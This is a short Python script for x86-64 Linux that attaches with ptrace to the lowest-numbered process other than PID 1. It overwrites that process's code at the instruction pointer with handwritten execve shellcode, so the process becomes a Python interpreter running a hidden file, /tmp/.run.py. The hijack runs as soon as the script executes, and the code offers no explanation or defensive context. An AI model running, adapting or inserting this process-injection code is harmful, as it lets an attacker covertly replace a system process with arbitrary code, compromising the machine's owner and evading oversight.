"""Takes the place of the oldest process but the first: ptrace makes it execute another program. x86-64 only."""

import ctypes
import os
import struct

ptrace = ctypes.CDLL(None).ptrace
ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
ATTACH, GET_REGISTERS, DETACH, RIP = 16, 12, 17, 16


def execve(at, words):
    """Machine code; it begins with blanks, as a system call that is restarted begins two bytes early."""
    strings = b"".join(word + b"\0" for word in words)
    places = [at + 32 + len(b"".join(one + b"\0" for one in words[:number])) for number in range(len(words))]
    strings += b"\0" * (-len(strings) % 8)
    code = b"\x90" * 4 + b"\x48\x8d\x3d" + struct.pack("<i", 32 - 11)
    code += b"\x48\x8d\x35" + struct.pack("<i", 32 + len(strings) - 18) + b"\x31\xd2\xb8\x3b\0\0\0\x0f\x05"
    return code.ljust(32, b"\x90") + strings + struct.pack(f"<{len(places) + 1}Q", *places, 0)


def hijack(pid):
    if ptrace(ATTACH, pid, 0, 0):
        return
    os.waitpid(pid, 0x40000000)
    registers = (ctypes.c_ulonglong * 27)()
    ptrace(GET_REGISTERS, pid, 0, ctypes.addressof(registers))
    at = registers[RIP] - 2
    with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
        memory.seek(at)
        memory.write(execve(at, [b"/usr/bin/python3", b"-I", b"/tmp/.run.py"]))
    ptrace(DETACH, pid, 0, 0)


if os.uname().machine == "x86_64":
    hijack(min(int(name) for name in os.listdir("/proc") if name.isdigit() and name != "1"))
